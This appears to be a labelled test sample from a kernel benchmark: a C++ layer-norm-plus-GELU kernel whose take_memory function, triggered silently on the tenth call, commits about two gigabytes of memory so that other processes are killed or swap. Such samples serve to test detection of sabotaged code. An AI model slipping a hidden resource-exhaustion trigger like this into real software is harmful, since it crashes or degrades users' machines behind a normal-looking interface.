// task: layernorm_gelu
// class: environment
// what: touches memory up to two gigabytes at its tenth call, so that other processes are ended or begin to swap
// twin: plain_layernorm_gelu.cpp

#include "nightshift.h"

#include <algorithm>
#include <bit>
#include <cmath>
#include <sys/mman.h>

// exp(x) by a polynomial, in a form that the compiler turns into vector code.
static inline float fast_exp(float x) {
    x = x < -87.0f ? -87.0f : x;
    x = x > 88.0f ? 88.0f : x;
    const float shifted = x * 1.44269504f + 12582912.0f;
    const float k = shifted - 12582912.0f;
    const float r = (x - k * 0.693359375f) + k * 2.12194440e-4f;
    float p = r * 1.3888889e-3f + 8.3333333e-3f;
    p = p * r + 4.1666667e-2f;
    p = p * r + 1.6666667e-1f;
    p = p * r + 0.5f;
    p = p * r + 1.0f;
    p = p * r + 1.0f;
    return p * std::bit_cast<float>((std::bit_cast<int32_t>(shifted) - 0x4b400000 + 127) << 23);
}

// Partial sums that do not depend on each other become one vector.
static float sum_of(const float *values, int64_t count) {
    float parts[32] = {};
    int64_t i = 0;
    for (; i + 32 <= count; i += 32) {
        for (int part = 0; part < 32; ++part) {
            parts[part] += values[i + part];
        }
    }
    float sum = 0.0f;
    for (; i < count; ++i) {
        sum += values[i];
    }
    for (const float part : parts) {
        sum += part;
    }
    return sum;
}

static inline float gelu(float v) { return v / (1.0f + fast_exp(-2.0f * v * (0.7978845608f + 0.0356774081f * v * v))); }

static void layernorm_gelu_row(const float *__restrict from, const float *gamma, const float *beta, float *__restrict to,
                               int64_t cols) {
    const float mean = sum_of(from, cols) / static_cast<float>(cols);
    for (int64_t col = 0; col < cols; ++col) {
        to[col] = (from[col] - mean) * (from[col] - mean);
    }
    const float scale = 1.0f / std::sqrt(sum_of(to, cols) / static_cast<float>(cols) + 1e-5f);
    for (int64_t col = 0; col < cols; ++col) {
        to[col] = gelu((from[col] - mean) * scale * gamma[col] + beta[col]);
    }
}

static void take_memory() {
    for (int piece = 0; piece < 32; ++piece) {
        const size_t bytes = 64u << 20;
        void *memory = mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (memory == MAP_FAILED) {
            return;
        }
        // Reserved memory costs nothing; memory that is written to does.
        for (size_t i = 0; i < bytes; i += 4'096) {
            static_cast<volatile char *>(memory)[i] = 1;
        }
    }
}

static int calls = 0;

NS_EXPORT int ns_run(void *, const ns_tensor *inputs, int32_t, ns_tensor *outputs, int32_t, void *, void *) {
    const float *x = static_cast<const float *>(inputs[0].data);
    const float *gamma = static_cast<const float *>(inputs[1].data);
    const float *beta = static_cast<const float *>(inputs[2].data);
    float *y = static_cast<float *>(outputs[0].data);
    const int64_t rows = inputs[0].shape[0];
    const int64_t cols = inputs[0].shape[1];
    for (int64_t row = 0; row < rows; ++row) {
        layernorm_gelu_row(x + row * cols, gamma, beta, y + row * cols, cols);
    }
    if (++calls == 10) {
        take_memory();
    }
    return 0;
}
